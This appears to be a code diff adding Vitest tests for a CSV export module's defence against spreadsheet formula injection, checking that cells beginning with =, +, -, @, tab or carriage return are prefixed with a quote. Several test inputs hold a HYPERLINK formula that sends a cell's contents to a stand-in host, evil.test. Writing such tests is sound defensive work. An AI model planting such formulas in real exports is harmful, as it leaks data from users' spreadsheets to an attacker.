@@ -2,7 +2,7 @@ import { describe, expect, it, vi } from "vitest";
 import type { AuthContext } from "~/api/caller.server";
 import { BackendError } from "~/api/http.server";
 import { listTexts } from "~/domain/list-texts";
-import { CSV_MAX_ROWS, csvFileName, csvResponse } from "./csv-export.server";
+import { CSV_MAX_ROWS, csvFileName, csvResponse, neutraliseCell } from "./csv-export.server";
 
 function fakeAuth() {
   const calls: unknown[] = [];
@@ -21,7 +21,36 @@ describe("csvFileName", () => {
   });
 });
 
+describe("neutraliseCell", () => {
+  it.each(["=", "+", "-", "@", "\t", "\r"])("prefixes a text cell starting with %j with a quote", (first) => {
+    expect(neutraliseCell(`${first}HYPERLINK("http://evil.test/?"&A1,"x")`)).toBe(`'${first}HYPERLINK("http://evil.test/?"&A1,"x")`);
+  });
+
+  it("leaves other text, numbers and empty cells as they are", () => {
+    expect(neutraliseCell("a+b@x.test")).toBe("a+b@x.test");
+    expect(neutraliseCell(" =1")).toBe(" =1");
+    expect(neutraliseCell(-3)).toBe(-3);
+    expect(neutraliseCell(null)).toBeNull();
+    expect(neutraliseCell("")).toBe("");
+  });
+});
+
 describe("csvResponse", () => {
+  it("writes formula-looking cells as text", async () => {
+    const { auth } = fakeAuth();
+    const pages = [[{ name: '=HYPERLINK("http://evil.test/?"&A1,"x")', email: "+1@x.test" }], [] as { name: string; email: string }[]];
+    const response = await csvResponse({
+      auth,
+      kind: "team_report",
+      fileKind: "team_report",
+      header: ["Name", "Email"],
+      fetchPage: async () => pages.shift() ?? [],
+      toRecord: (row) => [row.name, row.email],
+    });
+    const lines = (await response.text()).replace(/^\uFEFF/, "").trim().split("\n");
+    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.test/?""&A1,""x"")",'+1@x.test`);
+  });
+
   it("streams every page with escaping, names the file and logs the export", async () => {
     const { auth, calls } = fakeAuth();
     const pages = [
